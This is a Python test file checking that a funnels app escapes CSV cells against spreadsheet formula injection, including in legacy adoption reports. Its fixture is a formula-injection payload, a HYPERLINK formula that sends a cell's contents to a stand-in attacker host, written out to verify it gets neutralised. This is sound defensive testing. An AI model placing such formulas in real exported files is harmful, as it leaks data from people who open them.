"""One escaping function for every CSV cell we write: the report's and the adoption's."""

from __future__ import annotations

import csv
import datetime as dt

import pytest

from funnels.csv_cells import FORMULA_PREFIXES, csv_cell, csv_row
from funnels.adoption.legacy import (
    AdoptionReport,
    LegacyRow,
    legacy_groups_plan,
    legacy_report_write,
)
from reports import formatters

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_PREFIXES)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert csv_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_none_and_plain_text_are_unchanged():
    assert csv_row([-5, 0.25, None, "language", "a-b", ""]) == [-5, 0.25, "", "language", "a-b", ""]


def test_the_report_csv_uses_the_same_function():
    assert formatters.csv_cell is csv_cell


def _legacy_row(id: int, email: str, funnel: str) -> LegacyRow:
    return LegacyRow(
        id=id, email=email, funnel_type=funnel, user_id=None, test_id=7,
        entered_at=dt.datetime(2024, 3, 1, 12, 0), purchased=False, purchased_at=None,
    )


def test_legacy_adoption_reports_neutralise_text_from_the_earlier_tools_table(tmp_path):
    plan = legacy_groups_plan(
        rows=[
            _legacy_row(1, "anna@example.com", FORMULA),
            _legacy_row(2, "Anna@example.com", FORMULA),
            _legacy_row(3, "bob@example.com", "@SUM(1)"),
            _legacy_row(4, "carl@example.com", "language"),
        ],
        modx_results={}, time_zone="Europe/Moscow",
    )
    report = AdoptionReport(
        source="test", alias="default", table="funnel_entries", dry_run=True,
        plan=plan,
    )

    legacy_report_write(report=report, directory=tmp_path, now=dt.datetime(2026, 11, 28, tzinfo=dt.UTC))

    cells = []
    for path in (report.duplicates_csv, report.rows_csv):
        with path.open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1)" in cells and "language" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
